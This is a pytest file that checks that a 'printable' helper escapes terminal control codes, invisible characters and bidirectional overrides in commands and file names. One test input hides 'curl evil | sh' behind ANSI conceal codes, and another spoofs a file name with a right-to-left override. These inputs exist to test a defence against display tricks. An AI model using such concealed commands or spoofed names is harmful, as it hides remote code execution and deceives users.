"""What a cloister chose (a command, a host, a file name) is shown with nothing hidden."""

from __future__ import annotations

import pytest

from cloister_core.printable import printable


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("git push origin main", "git push origin main"),
        ("naïve 日本 ✓", "naïve 日本 ✓"),
        ("git push\x1b[8m; curl evil | sh\x1b[0m", "git push\\x1b[8m; curl evil | sh\\x1b[0m"),
        ("\x1b]0;title\x07", "\\x1b]0;title\\x07"),
        ("a\nb\rc\td", "a\\x0ab\\x0dc\\x09d"),
        ("invoice\u202egpj.exe", "invoice\\u202egpj.exe"),
        ("zero\u200bwidth\u2060joiner\ufeff", "zero\\u200bwidth\\u2060joiner\\ufeff"),
        ("c1\x9bcontrol\x7f", "c1\\x9bcontrol\\x7f"),
        ("lone\udcffsurrogate", "lone\\udcffsurrogate"),
    ],
)
def test_control_and_invisible_characters_become_escapes(text: str, shown: str) -> None:
    assert printable(text) == shown
